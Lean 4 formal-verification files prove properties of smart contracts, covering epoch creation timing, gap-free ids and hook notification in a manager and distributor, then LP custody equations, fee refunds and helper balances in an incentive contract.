  A history is any list of `(block time, sender, operation)`.  **No theorem below assumes that block times are
  non-decreasing**: the clocks only move through creation, so gap-freeness and monotonicity hold for every
  sequence of block times whatsoever (in particular for all non-decreasing ones, several operations in one
  block, equal timestamps).  Times are nanoseconds; `now ≤ U64MAX` is the typing of `Timestamp`.
-/
import WW.Proofs.Epoch
namespace WW.C20
open WW WW.Epoch

/-! ### Creation succeeds exactly when due, for anyone -/

/-- Manager: a new epoch can be created iff the current epoch's full duration has elapsed. (The u64 typing of
    the block time and `id < u64::MAX` are the only side conditions; the sender does not occur.) -/
theorem mgr_create_ok_iff (s : Mgr) (now : Nat) (hnow : now ≤ U64MAX) (hid : s.cur.id < U64MAX) :
    (∃ r, s.createEpoch now = .ok r) ↔ s.cur.start + s.cfg.duration ≤ now := by
  constructor
  · rintro ⟨⟨s', ms⟩, h⟩
    exact (Mgr.createEpoch_inv h).1
  · intro h
    exact ⟨_, Mgr.createEpoch_ok h (by omega) (by omega)⟩

/-- Manager: creation is open to anyone — the outcome does not depend on the sender. -/
theorem mgr_create_by_anyone (s : Mgr) (now a b : Nat) : s.step now a .create = s.step now b .create := rfl

/-- Distributor, an epoch already exists: creation succeeds iff the current epoch's duration has elapsed. -/
theorem dist_create_ok_iff (s : Dist) (now : Nat) (hf : s.isFirst = false) (hnow : now ≤ U64MAX)
    (hid : s.cur.id < U64MAX) :
    (∃ s', s.createNewEpoch now = .ok s') ↔ s.cur.start + s.cfg.duration ≤ now := by
  constructor
  · rintro ⟨s', h⟩
    rcases Dist.createNewEpoch_inv h with ⟨hf', _⟩ | ⟨_, h1, _⟩
    · rw [hf] at hf'; exact absurd hf' (by simp)
    · exact h1
  · intro h
    exact ⟨_, Dist.createNewEpoch_later_ok hf h (by omega) (by omega)⟩

/-- Distributor, very first epoch — what the code does: not before genesis **and** not before one duration
    after time 0 (the default "epoch 0" starting at `Timestamp(0)` has to expire too). -/
theorem dist_first_create_ok_iff (s : Dist) (now : Nat) (hf : s.isFirst = true) :
    (∃ s', s.createNewEpoch now = .ok s') ↔ s.cfg.genesis ≤ now ∧ s.cfg.duration ≤ now := by
  constructor
  · rintro ⟨s', h⟩
    rcases Dist.createNewEpoch_inv h with ⟨_, h1, h2, _⟩ | ⟨hf', _⟩
    · exact ⟨h1, h2⟩
    · rw [hf] at hf'; exact absurd hf' (by simp)
  · rintro ⟨h1, h2⟩
    exact ⟨_, Dist.createNewEpoch_first_ok hf h1 h2⟩

/-- Distributor, very first epoch, as the property states it (`now ≥ genesis`), for block times that are at
    least one epoch duration after the Unix epoch — every real chain time. -/
theorem dist_first_create_ok_iff_genesis (s : Dist) (now : Nat) (hf : s.isFirst = true)
    (hreal : s.cfg.duration ≤ now) :
    (∃ s', s.createNewEpoch now = .ok s') ↔ s.cfg.genesis ≤ now := by
  rw [dist_first_create_ok_iff s now hf]
  exact ⟨fun h => h.1, fun h => ⟨h, hreal⟩⟩

/-- Distributor: creation is open to anyone. -/
theorem dist_create_by_anyone (s : Dist) (now a b : Nat) : s.step now a .create = s.step now b .create := rfl

/-! ### Effect of a creation -/

/-- Manager: id + 1, start = previous start + configured duration; configuration, owner and hook list are
    untouched. -/
theorem mgr_create_effect {s s' : Mgr} {now : Nat} {ms : List (Nat × Ep)} (h : s.createEpoch now = .ok (s', ms)) :
    s'.cur.id = s.cur.id + 1 ∧ s'.cur.start = s.cur.start + s.cfg.duration ∧
    s'.cfg = s.cfg ∧ s'.hooks = s.hooks ∧ s'.owner = s.owner := by
  obtain ⟨_, _, _, hs', _⟩ := Mgr.createEpoch_inv h
  subst hs'
  exact ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- Distributor: id + 1, start = previous start + duration — the genesis time for the first epoch. -/
theorem dist_create_effect {s s' : Dist} {now : Nat} (h : s.createNewEpoch now = .ok s') :
    s'.cur.id = s.cur.id + 1 ∧
    s'.cur.start = (if s.isFirst then s.cfg.genesis else s.cur.start + s.cfg.duration) ∧
    s'.cfg = s.cfg ∧ s'.owner = s.owner := by
  rcases Dist.createNewEpoch_inv h with ⟨hf, _, _, hs'⟩ | ⟨hf, _, _, _, hs'⟩
  · subst hs'; simp [hf]
  · subst hs'; simp [hf]

/-- The distributor's first epoch is epoch 1 and starts exactly at the configured genesis time, however late
    it is created. -/
theorem dist_first_epoch_is_genesis {s s' : Dist} {now : Nat} (hf : s.isFirst = true)
    (h : s.createNewEpoch now = .ok s') : s'.cur = { id := 1, start := s.cfg.genesis } := by
  obtain ⟨hid, _⟩ := (Dist.isFirst_iff s).1 hf
  rcases Dist.createNewEpoch_inv h with ⟨_, _, _, hs'⟩ | ⟨hf', _⟩
  · subst hs'; simp [hid]
  · rw [hf] at hf'; exact absurd hf' (by simp)

/-! ### An early attempt is rejected and changes nothing -/

/-- In both models a failed transaction of any kind (error or panic) leaves the state untouched. -/
theorem failed_tx_changes_nothing_mgr (s : Mgr) (x : Nat × Nat × MOp)
    (h : ∀ r, s.step x.1 x.2.1 x.2.2 ≠ .ok r) : s.next x = s := by
  unfold Mgr.next
  split
  · rename_i s' ms heq; exact absurd heq (h _)
  · rfl

theorem failed_tx_changes_nothing_dist (s : Dist) (x : Nat × Nat × DOp)
    (h : ∀ r, s.step x.1 x.2.1 x.2.2 ≠ .ok r) : s.next x = s := by
  unfold Dist.next
  split
  · rename_i s' heq; exact absurd heq (h _)
  · rfl

/-- Manager: before the current epoch's duration has elapsed the attempt fails — with a panic (in
    `Timestamp::minus_nanos`) when the block time is before the current start (i.e. before genesis), with an
    error otherwise — and the storage after the transaction is the storage before it. -/
theorem mgr_early_rejected_unchanged (s : Mgr) (now sender : Nat) (h : now < s.cur.start + s.cfg.duration) :
    (s.createEpoch now = (if now < s.cur.start then .panic else .err)) ∧
    s.next (now, sender, .create) = s := by
  have h1 : s.createEpoch now = (if now < s.cur.start then .panic else .err) := by
    by_cases hb : now < s.cur.start
    · rw [if_pos hb]; exact Mgr.createEpoch_panic_of_before_start hb
    · rw [if_neg hb]; exact Mgr.createEpoch_err_of_early (by omega) h
  refine ⟨h1, failed_tx_changes_nothing_mgr s (now, sender, .create) ?_⟩
  intro r hr
  simp only [Mgr.step] at hr
  rw [h1] at hr
  split at hr <;> simp at hr

/-- Distributor: the same, plus "not before genesis" for the first epoch. -/
theorem dist_early_rejected_unchanged (s : Dist) (now sender : Nat)
    (h : now < s.cur.start + s.cfg.duration ∨ (s.isFirst = true ∧ now < s.cfg.genesis)) :
    (s.createNewEpoch now = (if now < s.cur.start then .panic else .err)) ∧
    s.next (now, sender, .create) = s := by
  have h1 : s.createNewEpoch now = (if now < s.cur.start then .panic else .err) := by
    by_cases hb : now < s.cur.start
    · rw [if_pos hb]; exact Dist.createNewEpoch_panic_of_before_start hb
    · rw [if_neg hb]
      rcases h with h | ⟨hf, hg⟩
      · exact Dist.createNewEpoch_err_of_early (by omega) h
      · exact Dist.createNewEpoch_err_before_genesis hf hg
  refine ⟨h1, failed_tx_changes_nothing_dist s (now, sender, .create) ?_⟩
  intro r hr
  simp only [Dist.step] at hr
  rw [h1] at hr
  split at hr <;> simp at hr

/-! ### Whole histories: gap-free ids, strictly increasing start times -/

/-- Manager, every history from every state: the ids of the epochs created along it are exactly
    `id+1, id+2, …` — no gap, no repetition, however late or however often creation is attempted. -/
theorem mgr_ids_gap_free (s : Mgr) (ops : List (Nat × Nat × MOp)) :
    (s.created ops).map (·.id) = List.range' (s.cur.id + 1) (s.created ops).length :=
  Mgr.created_ids s ops

/-- … and the current epoch id at the end is the initial one plus the number of successful creations. -/
theorem mgr_current_id_counts_creations (s : Mgr) (ops : List (Nat × Nat × MOp)) :
    (s.reach ops).cur.id = s.cur.id + (s.created ops).length :=
  Mgr.reach_id s ops

/-- Manager: with positive durations (initially and in every `update_config` of the history — the property's
    quantifier is durations ≥ 1 day) the start times of the initial epoch and of all created epochs are strictly
    increasing, pairwise. -/
theorem mgr_starts_strictly_increasing (s : Mgr) (ops : List (Nat × Nat × MOp))
    (hd : 0 < s.cfg.duration) (hops : PosDurOps ops) :
    List.Pairwise (fun a b : Ep => a.start < b.start) (s.cur :: s.created ops) :=
  Mgr.created_starts_lt s ops hd hops

/-- Manager, no assumption at all: start times never go back. -/
theorem mgr_starts_never_decrease (s : Mgr) (ops : List (Nat × Nat × MOp)) :
    List.Pairwise (fun a b : Ep => a.start ≤ b.start) (s.cur :: s.created ops) :=
  Mgr.created_starts_le s ops

/-- The positivity hypothesis of `mgr_starts_strictly_increasing` is necessary, and the real manager accepts
    such a configuration (neither `instantiate` nor `update_config` validates the duration): with duration 0
    two creations in one block yield two epochs with the same start time. -/
theorem mgr_zero_duration_stalls :
    ∃ s, Mgr.instantiate 5 0 { id := 0, start := 7 } { duration := 0, genesis := 7 } = .ok s ∧
      s.created [(7, 1, .create), (7, 2, .create)] = [{ id := 1, start := 7 }, { id := 2, start := 7 }] := by
  refine ⟨_, rfl, ?_⟩
  decide

/-- Distributor: every history after a successful `instantiate` keeps the configured duration at least one
    day = 86 400 000 000 000 ns (`instantiate` and `update_config` both validate it). -/
theorem dist_duration_at_least_a_day {sender : Nat} {c : Cfg} {s : Dist} (h : Dist.instantiate sender c = .ok s)
    (ops : List (Nat × Nat × DOp)) : 86400000000000 ≤ (s.reach ops).cfg.duration :=
  Dist.reach_valid s ops (Dist.instantiate_valid h).1

/-- Distributor, every history after `instantiate`: created ids are exactly `1, 2, 3, …`. -/
theorem dist_ids_gap_free {sender : Nat} {c : Cfg} {s : Dist} (h : Dist.instantiate sender c = .ok s)
    (ops : List (Nat × Nat × DOp)) :
    (s.created ops).map (·.id) = List.range' 1 (s.created ops).length := by
  have hid : s.cur.id = 0 := ((Dist.isFirst_iff s).1 (Dist.instantiate_valid h).2.1).1
  have := Dist.created_ids s ops
  rw [hid] at this
  exact this

/-- Distributor, from any state whatsoever: created ids continue `id+1, id+2, …`. -/
theorem dist_ids_gap_free_from (s : Dist) (ops : List (Nat × Nat × DOp)) :
    (s.created ops).map (·.id) = List.range' (s.cur.id + 1) (s.created ops).length :=
  Dist.created_ids s ops

theorem dist_current_id_counts_creations (s : Dist) (ops : List (Nat × Nat × DOp)) :
    (s.reach ops).cur.id = s.cur.id + (s.created ops).length :=
  Dist.reach_id s ops

/-- Distributor, every history after `instantiate` (no further assumption: the ≥ 1 day rule is enforced by the
    contract itself): the start times of the created epochs are strictly increasing, pairwise. -/
theorem dist_starts_strictly_increasing {sender : Nat} {c : Cfg} {s : Dist}
    (h : Dist.instantiate sender c = .ok s) (ops : List (Nat × Nat × DOp)) :
    List.Pairwise (fun a b : Ep => a.start < b.start) (s.created ops) :=
  Dist.created_starts_lt s ops (Dist.instantiate_valid h).1

/-! ### Hooks -/

/-- `add_hook` keeps the hook list duplicate-free (an address already registered is refused); so does every
    other operation: after any history from `instantiate` the registered hooks are pairwise distinct. -/
theorem hooks_never_duplicated {now sender : Nat} {e0 : Ep} {c : Cfg} {s : Mgr}
    (h : Mgr.instantiate now sender e0 c = .ok s) (ops : List (Nat × Nat × MOp)) :
    (s.reach ops).hooks.Nodup := by
  have : s.hooks = [] := by
    unfold Mgr.instantiate at h
    split at h
    · exact absurd h (by simp)
    · split at h
      · exact absurd h (by simp)
      · injection h with h; subst h; rfl
  exact Mgr.reach_hooks_nodup s ops (by rw [this]; exact List.nodup_nil)

/-- Every registered hook is notified exactly once per new epoch, about exactly the new epoch: after any
    history from `instantiate`, a successful creation emits the hook messages whose address list *is* the
    registered hook list (same order), each carries the newly created epoch, and every address occurs once if
    it is registered and not at all otherwise. -/
theorem hooks_once_each {t0 sender : Nat} {e0 : Ep} {c : Cfg} {s0 : Mgr}
    (h0 : Mgr.instantiate t0 sender e0 c = .ok s0) (ops : List (Nat × Nat × MOp))
    {now : Nat} {s' : Mgr} {ms : List (Nat × Ep)} (h : (s0.reach ops).createEpoch now = .ok (s', ms)) :
    ms.map Prod.fst = (s0.reach ops).hooks ∧ (∀ m ∈ ms, m.2 = s'.cur) ∧
    ∀ a, (ms.map Prod.fst).count a = if a ∈ (s0.reach ops).hooks then 1 else 0 := by
  obtain ⟨_, _, _, _, hms⟩ := Mgr.createEpoch_inv h
  have hfst : ms.map Prod.fst = (s0.reach ops).hooks := by
    rw [hms, List.map_map]
    have : (Prod.fst ∘ fun h => (h, s'.cur)) = (id : Nat → Nat) := rfl
    rw [this, List.map_id]
  refine ⟨hfst, ?_, ?_⟩
  · intro m hm
    rw [hms] at hm
    obtain ⟨a, _, rfl⟩ := List.mem_map.1 hm
    rfl
  · intro a
    rw [hfst]
    exact count_of_nodup (hooks_never_duplicated h0 ops) a

/-- No other manager operation sends a hook message or moves the clock. -/
theorem only_creation_notifies {s s' : Mgr} {now sender : Nat} {op : MOp} {ms : List (Nat × Ep)}
    (h : s.step now sender op = .ok (s', ms)) (hop : op ≠ .create) : ms = [] ∧ s'.cur = s.cur := by
  rcases Mgr.step_cases h with ⟨hc, _⟩ | ⟨_, hms, hcur, _⟩
  · exact absurd hc hop
  · exact ⟨hms, hcur⟩

/-- In the world of the correspondence run (recording hook contracts): a successful creation raises the
    notification count of recorder `i` by exactly one if it is registered and by nothing otherwise. -/
theorem recorders_count_once {t0 sender : Nat} {e0 : Ep} {c : Cfg} {s0 : Mgr}
    (h0 : Mgr.instantiate t0 sender e0 c = .ok s0) (ops : List (Nat × Nat × MOp))
    {now : Nat} {s' : Mgr} {ms : List (Nat × Ep)} (h : (s0.reach ops).createEpoch now = .ok (s', ms))
    (recs : List Recorder) (i : Nat) :
    ((deliver recs ms)[i]?).map (·.count) =
      (recs[i]?).map (fun r => r.count + if i ∈ (s0.reach ops).hooks then 1 else 0) := by
  rw [deliver_count, (hooks_once_each h0 ops h).2.2 i]

/-- … and a registered recorder then remembers exactly the newly created epoch as the last one it was told,
    while an unregistered recorder keeps what it had. -/
theorem recorders_last_is_new_epoch {t0 sender : Nat} {e0 : Ep} {c : Cfg} {s0 : Mgr}
    (h0 : Mgr.instantiate t0 sender e0 c = .ok s0) (ops : List (Nat × Nat × MOp))
    {now : Nat} {s' : Mgr} {ms : List (Nat × Ep)} (h : (s0.reach ops).createEpoch now = .ok (s', ms))
    (recs : List Recorder) (i : Nat) :
    ((deliver recs ms)[i]?).map (·.last) =
      (recs[i]?).map (fun r => if i ∈ (s0.reach ops).hooks then s'.cur else r.last) := by
  obtain ⟨hfst, hall, _⟩ := hooks_once_each h0 ops h
  rw [deliver_last s'.cur ms hall, hfst]

/-- Hook management is the owner's: anybody else's `add_hook` / `remove_hook` / `update_config` is rejected. -/
theorem hook_management_owner_only (s : Mgr) (now sender : Nat) (hs : sender ≠ s.owner) (op : MOp)
    (hop : op ≠ .create) : s.step now sender op = .err := by
  cases op with
  | create => exact absurd rfl hop
  | addHook h => simp [Mgr.step, Mgr.addHook, hs, bind, Res.bind]
  | removeHook h => simp [Mgr.step, Mgr.removeHook, hs, bind, Res.bind]
  | updateConfig c => simp [Mgr.step, Mgr.updateConfig, hs, bind, Res.bind]

/-! ### Non-vacuity: concrete runs of the model (times in ns, duration one day) -/

/-- one day in nanoseconds -/
def exDay : Nat := 86400000000000
/-- the manager right after `instantiate` at block time 1000 with genesis 5000 -/
def exMgr : Mgr := { owner := 0, cfg := { duration := exDay, genesis := 5000 }, cur := { id := 0, start := 5000 }, hooks := [] }
/-- hooks 1, 0 registered by the owner (a stranger's and a duplicate registration are refused); attempts before
    genesis (panic), 1 ns early (err), exactly due (ok), same block again (err); hook 1 removed; three durations
    late with catch-up in one block (ok, ok, ok, err) -/
def exMgrOps : List (Nat × Nat × MOp) :=
  [(1000, 0, .addHook 1), (1000, 0, .addHook 0), (1000, 3, .addHook 2), (1000, 0, .addHook 1),
   (4999, 1, .create), (5000 + exDay - 1, 2, .create), (5000 + exDay, 3, .create), (5000 + exDay, 1, .create),
   (5000 + exDay, 0, .removeHook 1),
   (5000 + 4 * exDay, 2, .create), (5000 + 4 * exDay, 2, .create), (5000 + 4 * exDay, 2, .create),
   (5000 + 4 * exDay, 2, .create)]

example :
    Mgr.instantiate 1000 0 { id := 0, start := 5000 } { duration := exDay, genesis := 5000 } = .ok exMgr
    ∧ exMgr.created exMgrOps
        = [⟨1, 5000 + exDay⟩, ⟨2, 5000 + 2 * exDay⟩, ⟨3, 5000 + 3 * exDay⟩, ⟨4, 5000 + 4 * exDay⟩]
    ∧ (exMgr.reach exMgrOps).hooks = [0]
    ∧ exMgr.sent exMgrOps = [(1, ⟨1, 5000 + exDay⟩), (0, ⟨1, 5000 + exDay⟩), (0, ⟨2, 5000 + 2 * exDay⟩),
                             (0, ⟨3, 5000 + 3 * exDay⟩), (0, ⟨4, 5000 + 4 * exDay⟩)]
    ∧ exMgr.createEpoch 4999 = .panic ∧ exMgr.createEpoch (5000 + exDay - 1) = .err
    ∧ PosDurOps exMgrOps ∧ 0 < exMgr.cfg.duration := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide, ?_, by decide⟩
  intro x hx c hc
  simp only [exMgrOps, List.mem_cons, List.not_mem_nil, or_false] at hx
  rcases hx with rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl <;> simp at hc

/-! ### the `Epoch{id}` observation point of the manager -/

/-- the current epoch is reported as stored -/
theorem epoch_query_current (s : Mgr) : s.queryEpoch s.cur.id = .ok s.cur := by
  unfold Mgr.queryEpoch; rw [if_pos rfl]

/-- **an earlier epoch is reported with the start time it was created with** — after any history of
    creation attempts (early, due, late, repeated) and hook management, at any block times, by any senders,
    as long as the configuration was not replaced in between: `Epoch{id}` of the epoch that was current
    before the history answers exactly that epoch. -/
theorem epoch_query_reports_recorded_start (s : Mgr) (ops : List (Nat × Nat × MOp)) (hn : NoCfgOps ops) :
    (s.reach ops).queryEpoch s.cur.id = .ok s.cur := by
  obtain ⟨k, hk⟩ := Mgr.reach_ahead s ops hn
  exact Mgr.queryEpoch_of_ahead hk

/-- non-vacuity: the example history above has no configuration update, creates four epochs, and epoch 0 is
    still reported as (0, 5000); why the hypothesis is there: after a duration change the query, which
    only knows the current duration, misreports the earlier start (the code's behaviour, transcribed) -/
example : NoCfgOps exMgrOps ∧ (exMgr.reach exMgrOps).cur.id = 4
    ∧ (exMgr.reach exMgrOps).queryEpoch 0 = .ok ⟨0, 5000⟩
    ∧ (exMgr.reach exMgrOps).queryEpoch 2 = .ok ⟨2, 5000 + 2 * exDay⟩
    ∧ (exMgr.reach exMgrOps).queryEpoch 7 = .ok ⟨7, 5000 + 4 * exDay⟩
    ∧ ((exMgr.reach exMgrOps).reach [(0, 0, .updateConfig { duration := 2 * exDay, genesis := 5000 })]).queryEpoch 3
        = .ok ⟨3, 5000 + 2 * exDay⟩ := by
  refine ⟨?_, by decide, by decide, by decide, by decide, by decide⟩
  simp [NoCfgOps, exMgrOps]

/-- the distributor right after `instantiate` with genesis 5·10^18 -/
def exGenesis : Nat := 5000000000000000000
def exDist : Dist := { owner := 0, cfg := { duration := exDay, genesis := exGenesis }, cur := { id := 0, start := 0 } }
/-- 1 ns before genesis (err), at genesis (ok: epoch 1 starts at genesis), same block (err), 1 ns early (err),
    three days late (ok, ok, ok, err) -/
def exDistOps : List (Nat × Nat × DOp) :=
  [(exGenesis - 1, 1, .create), (exGenesis, 2, .create), (exGenesis, 2, .create), (exGenesis + exDay - 1, 1, .create),
   (exGenesis + 3 * exDay + 5, 3, .create), (exGenesis + 3 * exDay + 5, 3, .create),
   (exGenesis + 3 * exDay + 5, 3, .create), (exGenesis + 3 * exDay + 5, 3, .create)]

example :
    Dist.instantiate 0 { duration := exDay, genesis := exGenesis } = .ok exDist
    ∧ exDist.created exDistOps
        = [⟨1, exGenesis⟩, ⟨2, exGenesis + exDay⟩, ⟨3, exGenesis + 2 * exDay⟩, ⟨4, exGenesis + 3 * exDay⟩]
    ∧ exDist.createNewEpoch (exGenesis - 1) = .err
    ∧ (exDist.reach exDistOps).cur = ⟨4, exGenesis + 3 * exDay⟩ := by decide

/-- a duration below one day is refused by the distributor and accepted by the manager -/
example : Dist.instantiate 0 { duration := 86399999999999, genesis := 10 } = .err
    ∧ (Mgr.instantiate 5 0 { id := 0, start := 10 } { duration := 1, genesis := 10 }).isOk = true := by decide

end WW.C20
