/-
  C11 — Incentive contract: staked LP is held one-for-one and returned to its owner.
  Property theorems only (helpers in WW/Proofs/{Incentive,Flows,Ledger,FlowSums,ClaimLedger,PosDelta,HistKeys,
  FlowDelta,FlowBacked,Backed,Custody,CustodyHist,FlowExact,HelperKeeps,PosKeys,AssetKinds}.lean). The model `WW.Inc.step` is the
  replica of the incentive contract + frontend helper path (engine `incentive`), following the repaired
  code (expand_flow dispatches its TransferFrom; flow reset keeps the original amount).
-/
import WW.Proofs.PosKeys
import WW.Proofs.AssetKinds
namespace WW.C11
open WW WW.Gen WW.Inc

/-- sum of the open and closed position amounts of the listed addresses -/
def positionsOf (s : St) (us : List Addr) : Nat :=
  (us.map (fun u => openSum (openOf s u) + closedSum (closedOf s u))).sum

/-- unclaimed funds of the flows denominated in asset `a` -/
def flowFunds (s : St) (a : Nat) : Nat :=
  ((s.flows.filter (fun f => f.asset = a)).map (fun f => f.funded - f.claimed)).sum

/-- The custody equation (the statement of the property): the contract's LP balance is exactly everything
    staked (`staked s` = the open and closed positions of ALL addresses, summed over the two storage maps)
    plus the unclaimed funds of the flows denominated in the LP asset, plus `kept` — LP-denom coins that
    were attached to calls that take no LP (zero unless somebody donates; see `strayOf`). -/
def CustodyEq (s : St) (kept : Nat) : Prop :=
  balOf s INC 0 = staked s + flowFunds s 0 + kept

theorem flowFunds_eq (s : St) (a : Nat) : flowFunds s a = ffSum a s.flows := (ffSum_eq a s.flows).symm

/-- **custody_eq**, counted form, over ALL histories: for every sequence of operations applied to a freshly
    instantiated contract — senders other than the contract itself (`SendersOk`), attached coins with
    distinct denoms (`OffersOk`), epochs that never go back (`EpochsFrom`), otherwise arbitrary (any
    receivers, amounts, durations, failed operations, helper deposits, flows in the LP asset with
    expansions, resets, claims and closes) — the contract's LP balance equals
    what it held at instantiation + everything staked + the unclaimed funds of the LP-asset flows
    + `keptLp`, the LP-denom funds attached to successful calls that did not ask for them. `keptLp` adds
    `strayOf` per successful operation, and `strayOf` counts donations only: native LP coins attached to
    `claim` / `withdraw` / `close_position` / `snapshot` / `close_flow`, to an `expand_flow` in another
    asset, or to an `open_flow` whose flow asset and fee asset are both not the LP. An `open_flow` whose
    fee is charged in the LP denom contributes nothing whatever is attached: an over-paid fee is refunded
    for every kind of flow asset (`overpaid_fee_refunded`). -/
theorem custody_eq_counted (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (hs : SendersOk ops) (ho : OffersOk ops) (he : EpochsFrom e0 ops) :
    CustodyEq (reach c (init e0 bal) ops) (balOf (init e0 bal) INC 0 + keptLp c (init e0 bal) ops) := by
  obtain ⟨ep', h⟩ := reach_custody (c := c) ops (init e0 bal) e0 _ (init_CInv e0 bal) hs ho he
  have hb := h.bal
  unfold owed at hb
  simp only [if_true] at hb
  unfold CustodyEq
  rw [flowFunds_eq]
  omega

theorem sum_map_add (us : List Addr) (f g : Addr → Nat) :
    (us.map (fun u => f u + g u)).sum = (us.map f).sum + (us.map g).sum := by
  induction us with
  | nil => rfl
  | cons u t ih => simp only [List.map_cons, List.sum_cons, ih]; omega

/-- `staked` is the sum of the per-address position amounts: over ALL histories, for any duplicate-free
    list `us` of addresses containing every address that has an entry in the position maps (every address
    that ever held a position), `Σ_{u ∈ us} (Σ open(u) + Σ closed(u)) = staked`. So the custody theorems
    read literally "LP balance = Σ open + Σ closed + Σ unclaimed LP-flow funds". -/
theorem staked_eq_positionsOf (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (us : List Addr)
    (hus : us.Nodup)
    (hcov : ∀ u, (u ∈ keysOf (reach c (init e0 bal) ops).openPos
                  ∨ u ∈ keysOf (reach c (init e0 bal) ops).closedPos) → u ∈ us) :
    positionsOf (reach c (init e0 bal) ops) us = staked (reach c (init e0 bal) ops) := by
  have hP := reach_PKeys (c := c) (init_PKeys e0 bal) ops
  unfold positionsOf staked
  rw [sum_map_add]
  have h1 := sum_over_addresses openSum (d := []) rfl _ us hP.openK hus (fun k hk => hcov k (Or.inl hk))
  have h2 := sum_over_addresses closedSum (d := []) rfl _ us hP.closedK hus (fun k hk => hcov k (Or.inr hk))
  unfold openOf closedOf
  rw [h1, h2]

/-- no operation of the history carries LP-denom coins into a handler that takes no LP: no native LP coin is
    attached to `claim`, `withdraw`, `close_position`, `snapshot`, `close_flow`, to an `expand_flow` of a flow
    in another asset, or to an `open_flow` with neither its flow asset nor its fee in the LP. It excludes
    nothing else — in particular not an over-paid `open_flow` fee in the LP denom, for any flow asset
    (`noStrayLp_openFlow_fee`). -/
def NoStrayLp (c : Cfg) (ops : List (Env × Op)) : Prop := ∀ p ∈ ops, strayOf c p.1 p.2 = 0

theorem keptLp_zero {c : Cfg} : ∀ (ops : List (Env × Op)) (s : St), NoStrayLp c ops → keptLp c s ops = 0 := by
  intro ops
  induction ops with
  | nil => intro s _; rfl
  | cons p t ih =>
    intro s h
    unfold keptLp
    rw [ih _ (fun q hq => h q (List.mem_cons_of_mem _ hq)), h p List.mem_cons_self]
    split <;> rfl

/-- an `open_flow` under a fee charged in the LP asset never counts as stray LP, whatever is attached to it
    (over-paid fee included) and whatever the flow asset is -/
theorem noStrayLp_openFlow_fee (c : Cfg) (e : Env) (a amt : Nat) (st en : Option Nat) (hfee : c.feeAsset = 0) :
    strayOf c e (.openFlow a amt st en) = 0 := by
  simp only [strayOf, if_pos hfee]
  split <;> rfl

/-- **custody_eq**, over ALL histories without donated LP coins (`NoStrayLp`: no native LP coin attached to
    a call that takes no LP; over-paid flow fees are NOT excluded), from a contract that starts with no LP:
    LP balance = Σ open positions + Σ closed positions + Σ unclaimed funds of the LP-asset flows, exactly,
    after every operation. -/
theorem custody_eq (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op))
    (hs : SendersOk ops) (ho : OffersOk ops) (he : EpochsFrom e0 ops) (hk : NoStrayLp c ops)
    (h0 : balOf (init e0 bal) INC 0 = 0) :
    CustodyEq (reach c (init e0 bal) ops) 0 := by
  have h := custody_eq_counted c e0 bal ops hs ho he
  rw [keptLp_zero ops _ hk, h0] at h
  exact h

/-- **custody, `≥` half with no assumption on epochs, coins or stray funds**: over ALL histories (senders
    other than the contract itself) the LP balance covers everything staked plus the LP-asset flows. -/
theorem custody_ge (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (hs : SendersOk ops) :
    staked (reach c (init e0 bal) ops) + flowFunds (reach c (init e0 bal) ops) 0
      ≤ balOf (reach c (init e0 bal) ops) INC 0 := by
  have h := (reach_backed (c := c) (init_WInv e0 bal) (init_FInv e0 bal) (init_backed e0 bal) ops hs).2 0
  unfold owed at h
  simp only [if_true] at h
  rw [flowFunds_eq]
  omega

/-- the custody equation as a one-transaction statement from any state satisfying the invariant
    (`CInv s ep K`: weights, flow ids, asset-history keys ≤ `ep + 1`, creators, and the equation with `K`) -/
theorem custody_eq_step {c : Cfg} {s s' : St} {e : Env} {op : Op} {K : Nat} (hI : CInv s e.epoch K)
    (hs : e.sender ≠ INC) (hn : (keysOf e.offers).Nodup) (h : step c s e op = .ok s') :
    balOf s' INC 0 = staked s' + flowFunds s' 0 + (K + strayOf c e op) := by
  have hb := (step_custody hI hs hn h).bal
  unfold owed at hb
  simp only [if_true] at hb
  rw [flowFunds_eq]
  omega

/-- **overpaid_fee_refunded**: under a flow fee charged in a native denom, an accepted `open_flow` — with ANY
    amount of the fee denom attached, for a flow asset of ANY kind (native or cw20) — lowers the sender's
    balance of the fee denom by exactly the fee, plus the flow amount `amt - fee` when the flow is opened in
    the fee denom itself; the collector's balance of it rises by exactly the fee and the contract's by exactly
    that flow amount (by nothing when the flow asset is another one): the contract keeps none of an
    over-payment, every unit beyond fee (+ flow) is back with the sender when the transaction ends.
    Any state, hence after any history. -/
theorem overpaid_fee_refunded {c : Cfg} {s s' : St} {e : Env} {a amt : Nat} {st en : Option Nat}
    (hnf : c.native c.feeAsset = true) (hs : e.sender ≠ INC) (hsc : e.sender ≠ COLLECTOR)
    (hn : (keysOf e.offers).Nodup) (h : step c s e (.openFlow a amt st en) = .ok s') :
    balOf s' e.sender c.feeAsset + c.feeAmt + (if a = c.feeAsset then amt - c.feeAmt else 0)
        = balOf s e.sender c.feeAsset
    ∧ balOf s' INC c.feeAsset = balOf s INC c.feeAsset + (if a = c.feeAsset then amt - c.feeAmt else 0)
    ∧ balOf s' COLLECTOR c.feeAsset = balOf s COLLECTOR c.feeAsset + c.feeAmt :=
  step_openFlow_fee_refund hnf hs hsc hn h

/-- **helper_keeps_nothing**: after a deposit through the frontend helper (any state, any depositor other
    than the helper itself) the helper holds no LP at all — its whole LP balance went into the depositor's
    position — and its balance of every other asset is what it was before (the deposited assets were passed
    on to the pair in full). -/
theorem helper_keeps_nothing {c : Cfg} {s s' : St} {e : Env} {a0 a1 dur : Nat} (hs : e.sender ≠ HELPER)
    (h : step c s e (.helperDeposit a0 a1 dur) = .ok s') :
    balOf s' HELPER 0 = 0 ∧ ∀ a, a ≠ 0 → balOf s' HELPER a = balOf s HELPER a :=
  step_helper_keeps_nothing hs h

/-- … in particular after every successful helper deposit at the end of ANY history -/
theorem helper_keeps_nothing_reach (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env)
    (a0 a1 dur : Nat) (s' : St) (hs : e.sender ≠ HELPER)
    (h : step c (reach c (init e0 bal) ops) e (.helperDeposit a0 a1 dur) = .ok s') :
    balOf s' HELPER 0 = 0 :=
  (step_helper_keeps_nothing hs h).1

